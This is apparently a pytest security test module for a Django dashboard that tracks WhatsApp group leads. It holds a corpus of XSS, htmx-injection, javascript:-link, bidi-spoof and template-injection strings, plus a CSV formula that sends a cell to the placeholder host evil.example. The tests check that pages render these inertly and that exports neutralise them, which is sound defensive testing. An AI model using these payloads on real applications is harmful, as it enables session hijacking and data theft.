"""Hostile text from WhatsApp comes out inert on every page, on the wall and in every export.

Group members choose their own display names and write the messages; whoever sets up a group
types its name and keywords. All of it is untrusted. A corpus of hostile strings goes in
through the real doors where there is one — the WAHA webhook (names, messages, session),
the API (group names, keywords, custom groups, key names) and the dashboard's own forms
(reasons for a move) — and every screen is then parsed with html.parser: the payload must
show up as text, never as an element, an attribute, an event handler, an htmx attribute or
a `javascript:` link. Exports must keep it as data (CSV formula-neutralised, JSON escaped).
"""

import csv
import io
import json
import unicodedata
from dataclasses import dataclass, field
from html.parser import HTMLParser

import pytest
from django.contrib.auth.models import User
from django.test import Client
from django.urls import reverse

from leads.models import (
    ApiKey,
    GroupMessage,
    Lead,
    LeadStatusChange,
    MonitoredGroup,
    Session,
    WallLink,
)
from leads.roles import MANAGER, set_user_role
from tests.webhooks import post_waha

pytestmark = pytest.mark.django_db

RLO = "\u202e"  # RIGHT-TO-LEFT OVERRIDE: makes "gpj.exe" read as "exe.jpg"
SCRIPT = "<script>alert(1)</script>"
IMG = '"><img src=x onerror=alert(1)>'
HX = '" hx-get="/admin" hx-trigger="load" x="'
HX_ELEMENT = '<div hx-post="/admin/logout/" hx-trigger="load">x</div>'
JS_LINK = "javascript:alert(1)"
CLOSE_SCRIPT = "</script><script>alert(2)</script>"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
TEMPLATE = "{{ request.user }}{% debug %}"
SEPARATORS = "line\u2028separator\u2029paragraph"
HUGE = "N" * 10_000
NUL = "nul\x00byte"
CORPUS = [SCRIPT, IMG, HX, HX_ELEMENT, JS_LINK, CLOSE_SCRIPT, FORMULA, TEMPLATE, SEPARATORS]
GROUP_NAME = f"{SCRIPT}{IMG} {RLO}gpj.exe"
SESSION_NAME = IMG
KEY_NAME = HX_ELEMENT


# --- What "inert" means, checked on the parsed page ---------------------------------------------


@dataclass
class Findings:
    problems: list[str] = field(default_factory=list)
    text: list[str] = field(default_factory=list)


class Inspector(HTMLParser):
    """Walks a page and notes anything user text could have turned into markup."""

    def __init__(self, *, check_bidi: bool = True) -> None:
        super().__init__(convert_charrefs=True)
        self.check_bidi = check_bidi
        self.findings = Findings()
        self._stack: list[tuple[str, bool]] = []  # (tag, isolates bidi text)
        self._script_without_src = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        problems = self.findings.problems
        values = {name: value or "" for name, value in attrs}
        if tag == "script":
            src = values.get("src", "")
            # A data island (json_script) is not run; its JSON escapes `<` as \u003C.
            data_island = values.get("type") == "application/json"
            self._script_without_src = not src and not data_island
            if src and (not src.startswith("/") or src.startswith("//")):
                problems.append(f"script from {src!r}")
        if tag == "img" and values.get("src") == "x":
            problems.append("injected <img src=x>")
        if tag in {"div"} and "hx-post" in values and "/admin" in values["hx-post"]:
            problems.append("injected <div hx-post>")
        for name, value in values.items():
            if name.startswith("on"):
                problems.append(f"event handler {name}= on <{tag}>")
            if name.startswith("hx-") and (value.startswith("/admin") or value == "load"):
                problems.append(f"injected {name}={value!r} on <{tag}>")
            if name in {"x", "src"} and tag not in {"script", "img"}:
                problems.append(f"stray attribute {name}= on <{tag}>")
            if name in {"href", "src", "action", "formaction", "hx-get", "hx-post"}:
                if value.strip().lower().replace("\t", "").startswith("javascript:"):
                    problems.append(f"{name}={value!r} on <{tag}>")
        isolates = tag == "bdi" or values.get("dir") == "auto" or tag in {"textarea", "input"}
        if tag not in VOID:
            self._stack.append((tag, isolates))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)
        if tag not in VOID and self._stack:
            self._stack.pop()

    def handle_endtag(self, tag: str) -> None:
        if tag == "script":
            self._script_without_src = False
        for index in range(len(self._stack) - 1, -1, -1):
            if self._stack[index][0] == tag:
                del self._stack[index:]
                break

    def handle_data(self, data: str) -> None:
        if self._script_without_src and data.strip():
            self.findings.problems.append(f"inline script {data.strip()[:60]!r}")
        self.findings.text.append(data)
        if self.check_bidi and RLO in data and not any(isolates for _, isolates in self._stack):
            where = " > ".join(tag for tag, _ in self._stack[-3:])
            if not where.endswith(("title", "option")):
                self.findings.problems.append(f"bidi override outside an isolate in {where}")


VOID = set("area base br col embed hr img input link meta source track wbr".split())


def inspect(html: str, *, check_bidi: bool = True) -> Findings:
    inspector = Inspector(check_bidi=check_bidi)
    inspector.feed(html)
    inspector.close()
    return inspector.findings


def assert_inert(html: str, where: str, *, shows: tuple[str, ...] = ()) -> None:
    # Django's admin does not isolate right-to-left overrides in its tables; it is for staff
    # only, and every screen of the dashboard itself is checked for isolation.
    findings = inspect(html, check_bidi=not where.startswith("/admin/"))
    assert findings.problems == [], where
    assert "<script>alert" not in html, where
    text = "".join(findings.text)
    for payload in shows:
        # It reached the page, as text a person can read: the check above is not vacuous.
        assert payload in text, (where, payload)


def test_the_inspector_catches_each_kind_of_injection() -> None:
    cases = {
        f"<p>{SCRIPT}</p>": "inline script",
        f'<a title="{IMG}">x</a>': "injected <img src=x>",
        f'<a title="{HX}">x</a>': "injected hx-get",
        f"<p>{HX_ELEMENT}</p>": "injected <div hx-post>",
        f'<a href="{JS_LINK}">x</a>': "href='javascript:alert(1)'",
        f"<p>{RLO}abc</p>": "bidi override",
    }
    for html, expected in cases.items():
        assert any(expected in problem for problem in inspect(html).problems), html
    assert inspect(f'<p dir="auto">{RLO}abc</p><bdi>{RLO}</bdi>').problems == []


# --- The hostile world, brought in through the real doors ----------------------------------------


def waha(client: Client, payload: dict, event: str = "message", session: str = SESSION_NAME):
    body = {
        "id": "evt_hostile",
        "timestamp": 1717000000000,
        "event": event,
        "session": session,
        "me": {"id": "15550009999@c.us", "pushName": "Sales"},
        "payload": payload,
    }
    return post_waha(client, body)


def group_message(group_jid: str, n: int, name: str, body: str) -> dict:
    return {
        "id": f"false_{group_jid}_MSG{n}",
        "timestamp": 1717000000 + n,
        "from": group_jid,
        "fromMe": False,
        "participant": f"97252{n:07d}@c.us",
        "body": body,
        "_data": {"notifyName": name},
    }


@pytest.fixture
def hostile() -> dict:
    """Leads whose every field a group member or group admin wrote to hurt the team."""
    webhook = Client()
    _, raw_key = ApiKey.issue(KEY_NAME)
    api = Client(headers={"X-API-Key": raw_key})
    Session.objects.create(name=SESSION_NAME)  # events update configured sessions only
    assert waha(webhook, {"status": "WORKING"}, event="session.status").status_code == 200
    session = Session.objects.get(name=SESSION_NAME)
    keywords = [k for k in CORPUS if len(k) <= 200] + ["price"]
    created = api.post(
        "/api/v2/groups",
        {
            "session_id": str(session.id),
            "wa_group_id": "120363000000000001@g.us",
            "name": GROUP_NAME,
            "monitor_keywords": keywords,
        },
        content_type="application/json",
    )
    assert created.status_code == 201, created.content
    names = [*CORPUS, f"{RLO}gpj.exe", HUGE, NUL]
    for n, name in enumerate(names):
        body = f"{CORPUS[n % len(CORPUS)]} what's the price? {RLO}evil"
        response = waha(webhook, group_message("120363000000000001@g.us", n, name, body))
        assert response.status_code == 200, response.content
    custom = api.post(
        "/api/v2/custom-groups",
        {"name": SCRIPT, "members": [{"phone": "+972521234567", "name": IMG}]},
        content_type="application/json",
    )
    assert custom.status_code == 201, custom.content
    # A move by the API key (its name is the actor) and one by a person with a hostile reason.
    leads = list(Lead.objects.order_by("lead_detected_at"))
    assert len(leads) == len(names)
    moved = api.patch(
        f"/api/v2/leads/{leads[0].id}/status",
        {"status": "contacted"},
        content_type="application/json",
    )
    assert moved.status_code == 200, moved.content
    boss = User.objects.create_superuser("boss", password="pw")
    set_user_role(boss, MANAGER)
    team = Client()
    team.force_login(boss)
    team.post(
        reverse("leads:change-status", args=[leads[1].id]),
        {"status": "lost", "expected_status": "new", "reason": f"{HX_ELEMENT}{JS_LINK}"},
    )
    link, token = WallLink.issue(IMG, show_phones=True, show_full_names=True)
    return {"team": team, "api": api, "leads": leads, "token": token}


def test_ingest_keeps_hostile_names_as_data_cut_to_size(hostile) -> None:
    names = set(Lead.objects.values_list("contact_name", flat=True))
    assert set(CORPUS) <= names
    assert "N" * 200 in names  # 10,000 characters cut to the column, not a 500
    assert "nulbyte" in names  # PostgreSQL cannot store NUL: dropped at the door
    assert MonitoredGroup.objects.get().name == GROUP_NAME
    assert set(MonitoredGroup.objects.get().monitor_keywords) >= {SCRIPT, HX, JS_LINK}
    assert {lead.matched_keyword for lead in hostile["leads"]} & {SCRIPT, IMG, HX_ELEMENT}
    assert GroupMessage.objects.filter(body__contains=SCRIPT).exists()


# --- Every page -----------------------------------------------------------------------------------

HTMX = {"HX-Request": "true"}


def pages(hostile: dict) -> list[tuple[str, dict[str, str], tuple[str, ...]]]:
    lead = hostile["leads"][1]
    detail = reverse("leads:detail", args=[lead.id])
    return [
        ("/leads/", {}, (SCRIPT, IMG, GROUP_NAME)),
        ("/leads/", {**HTMX, "HX-Target": "leads-results"}, (SCRIPT, IMG)),
        ("/leads/?page_size=100&sort=contact_name", {}, (HX, HX_ELEMENT, JS_LINK)),
        (f"/leads/?q={SCRIPT}", {**HTMX, "HX-Target": "leads"}, (SCRIPT,)),
        ("/leads/board/", {}, (SCRIPT, IMG)),
        ("/leads/board/", {**HTMX, "HX-Target": "board"}, (SCRIPT, IMG)),
        (detail, {}, (GROUP_NAME, f"{HX_ELEMENT}{JS_LINK}", SESSION_NAME)),
        (detail, {**HTMX, "HX-Target": "lead-panel"}, (GROUP_NAME,)),
        ("/activity/", {}, (KEY_NAME, f"{HX_ELEMENT}{JS_LINK}", GROUP_NAME)),
        ("/settings/groups/", {}, (GROUP_NAME, SESSION_NAME)),
        ("/settings/api-keys/", {}, (KEY_NAME,)),
        ("/settings/wall/", {}, (IMG,)),
        (f"/wall/{hostile['token']}/", {}, (IMG, SCRIPT, CLOSE_SCRIPT)),
        (f"/wall/{hostile['token']}/snapshot", {}, (SCRIPT, CLOSE_SCRIPT)),
        ("/admin/leads/lead/", {}, (SCRIPT, IMG)),
        (f"/admin/leads/lead/{lead.pk}/change/", {}, (GROUP_NAME,)),
        ("/admin/leads/monitoredgroup/", {}, (GROUP_NAME,)),
        ("/admin/leads/session/", {}, (SESSION_NAME,)),
        ("/admin/leads/groupmessage/", {}, (SCRIPT,)),
        ("/admin/leads/leadstatuschange/", {}, ()),
        ("/admin/leads/customgroup/", {}, (SCRIPT,)),
    ]


def test_every_page_shows_the_hostile_text_as_text(hostile) -> None:
    for url, headers, shows in pages(hostile):
        client = Client() if url.startswith("/wall/") else hostile["team"]
        response = client.get(url, headers=headers)
        assert response.status_code == 200, (url, response.status_code)
        assert_inert(response.content.decode(), f"{url} {headers}", shows=shows)


def test_hostile_text_in_the_address_is_not_reflected_as_markup(hostile) -> None:
    lead = hostile["leads"][0]
    query = f"?q={IMG}&next={JS_LINK}&status={HX}&group={SCRIPT}&sort={HX}&page={SCRIPT}"
    for url in (
        "/leads/",
        "/leads/board/",
        reverse("leads:detail", args=[lead.id]),
        "/activity/",
        "/settings/groups/",
    ):
        response = hostile["team"].get(url + query)
        assert response.status_code == 200, url
        assert_inert(response.content.decode(), url)
    login = Client().get(f"/login/?next={JS_LINK}")
    assert_inert(login.content.decode(), "login")
    signed_in = hostile["team"].get(f"/login/?next={JS_LINK}")
    assert signed_in["Location"] == reverse("leads:table")


def test_a_nul_byte_in_the_address_is_a_page_not_a_crash(hostile) -> None:
    """PostgreSQL refuses NUL in a query parameter: the forms must drop it before the database."""
    lead = hostile["leads"][0]
    query = "?q=a%00b&status=%00&group=%00&kind=%00&user=%00&page=%00&sort=%00&ids=%00"
    for url in (
        "/leads/",
        "/leads/board/",
        reverse("leads:detail", args=[lead.id]),
        reverse("leads:reciprocity", args=[lead.id]) + "?session_id=%00",
        "/activity/",
        "/leads/export/csv/",
        "/live/events",
    ):
        response = hostile["team"].get(url + query)
        assert response.status_code < 500, url
    assert Client().get(f"/wall/%00{hostile['token']}/").status_code == 404
    assert hostile["api"].get("/api/v2/leads?search=a%00b").status_code == 422


# --- The doors refuse or clean what cannot be stored ----------------------------------------------


def test_the_api_refuses_nul_and_oversize_text_with_422(hostile) -> None:
    session = Session.objects.get(name=SESSION_NAME)
    for name, keywords in ((NUL, []), (HUGE, []), ("Fine", [NUL]), ("Fine", [HUGE])):
        response = hostile["api"].post(
            "/api/v2/groups",
            {
                "session_id": str(session.id),
                "wa_group_id": "120363000000000002@g.us",
                "name": name,
                "monitor_keywords": keywords,
            },
            content_type="application/json",
        )
        assert response.status_code == 422, (name[:20], keywords)
    big = hostile["api"].post(
        "/api/v2/custom-groups", {"name": HUGE}, content_type="application/json"
    )
    assert big.status_code == 422
    assert MonitoredGroup.objects.count() == 1


def test_the_webhook_drops_nul_from_every_field_it_stores(hostile) -> None:
    response = waha(
        Client(),
        group_message("120363000000000001@g.us", 99, "Dana\x00Levi", "price\x00 please"),
        session=SESSION_NAME + "\x00",
    )
    assert response.status_code == 200, response.content
    lead = Lead.objects.get(contact_name="DanaLevi")
    assert lead.message_preview == "price please"
    assert all("\x00" not in name for name in Session.objects.values_list("name", flat=True))


def test_the_dashboard_forms_refuse_nul_and_oversize_text(hostile) -> None:
    session = Session.objects.get(name=SESSION_NAME)
    group = MonitoredGroup.objects.get()
    for name, keywords in ((NUL, "price"), (HUGE, "price"), ("Fine", NUL), ("Fine", HUGE)):
        response = hostile["team"].post(
            reverse("leads:groups"),
            {
                "session": str(session.pk),
                "wa_group_id": "120363000000000003@g.us",
                "name": name,
                "monitor_mode": "keywords",
                "monitor_keywords": keywords,
            },
        )
        assert response.status_code == 400, (name[:20], keywords[:20])
    edit = hostile["team"].post(
        reverse("leads:group-update", args=[group.pk]),
        {f"group-{group.pk}-monitor_mode": "keywords", f"group-{group.pk}-monitor_keywords": NUL},
    )
    assert edit.status_code == 400
    moved = hostile["team"].post(
        reverse("leads:change-status", args=[hostile["leads"][2].id]),
        {"status": "lost", "reason": NUL},
    )
    assert moved.status_code < 500
    bulk = hostile["team"].post(
        reverse("leads:bulk"),
        {
            "action": "add_to_group",
            "lead": [str(hostile["leads"][3].id)],
            "new_group_name": f"{NUL}{HUGE}",
        },
    )
    assert bulk.status_code < 500
    login = Client().post(reverse("leads:login"), {"username": NUL, "password": NUL})
    assert login.status_code == 200
    assert MonitoredGroup.objects.count() == 1
    reasons = LeadStatusChange.objects.values_list("reason", flat=True)
    assert all("\x00" not in reason for reason in reasons)


# --- Exports --------------------------------------------------------------------------------------


def _hidden(char: str) -> bool:
    return char.isspace() or unicodedata.category(char) == "Cf"


def could_run_as_formula(cell: str) -> bool:
    """What a spreadsheet does with a cell, written independently of leads.exports."""
    if not cell or cell.startswith("'"):
        return False
    if cell[0] in "\t\r":
        return True
    if cell.startswith("+") and cell[1:].isascii() and cell[1:].isdigit():
        return False  # a plain phone number cannot run
    first = next((char for char in cell if not _hidden(char)), "")
    return unicodedata.normalize("NFKC", first) in {"=", "+", "-", "@"}


def body_of(response) -> bytes:
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.content


def csv_cells(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def test_the_csv_exports_neutralise_every_formula(hostile) -> None:
    dashboard = hostile["team"].get("/leads/export/csv/")
    api = hostile["api"].get("/api/v2/leads/export/csv")
    for where, body in (("dashboard", body_of(dashboard)), ("api", body_of(api))):
        rows = csv_cells(body)
        assert len(rows) == 1 + len(hostile["leads"]), where
        cells = [cell for row in rows[1:] for cell in row]
        assert [cell for cell in cells if could_run_as_formula(cell)] == [], where
        assert "'" + FORMULA in cells, where
        # Everything else comes out exactly as it went in, however hostile.
        assert {SCRIPT, IMG, HX, HX_ELEMENT, CLOSE_SCRIPT, SEPARATORS} <= set(cells), where


def test_the_json_exports_round_trip_the_hostile_text_exactly(hostile) -> None:
    dashboard = hostile["team"].get("/leads/export/json/")
    api = hostile["api"].get("/api/v2/leads/export/json")
    stored = set(Lead.objects.values_list("contact_name", flat=True))
    for where, response in (("dashboard", dashboard), ("api", api)):
        assert response["Content-Type"].startswith("application/json"), where
        assert response["X-Content-Type-Options"] == "nosniff", where
        leads = json.loads(body_of(response))
        assert {lead["contact_name"] for lead in leads} == stored, where
        assert {lead["source_group"]["name"] for lead in leads} == {GROUP_NAME}, where


def test_the_api_answers_hostile_text_as_json_not_html(hostile) -> None:
    response = hostile["api"].get("/api/v2/leads?limit=100")
    assert response["Content-Type"].startswith("application/json")
    assert response["X-Content-Type-Options"] == "nosniff"
    assert SCRIPT in {lead["contact_name"] for lead in response.json()["leads"]}
